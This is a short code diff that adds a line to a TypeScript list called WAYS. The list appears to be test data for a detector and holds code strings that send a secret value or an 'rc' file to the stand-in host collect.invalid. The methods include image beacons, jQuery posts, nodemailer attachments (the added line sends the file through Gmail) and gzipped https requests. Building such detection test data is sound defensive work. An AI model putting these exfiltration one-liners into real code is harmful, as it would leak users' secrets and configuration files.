@@ -109,6 +109,7 @@ const WAYS: readonly string[] = [
   `const i = document.createElement('img'); i.setAttribute('src', 'https://collect.invalid/' + s);`,
   `$.post('https://collect.invalid', { s });`,
   `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ to: 'x@collect.invalid', text: s });`,
+  `require('nodemailer').createTransport({ service: 'gmail' }).sendMail({ to: 'Someone <x@collect.invalid>', attachments: [{ path: rc }] });`,
   `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ attachments: [{ path: rc }] });`,
   `https.request('https://collect.invalid').end(zlib.gzipSync(s).toString('base64'));`,
   `https.request('https://collect.invalid').end('' + { toString() { return s; } });`,
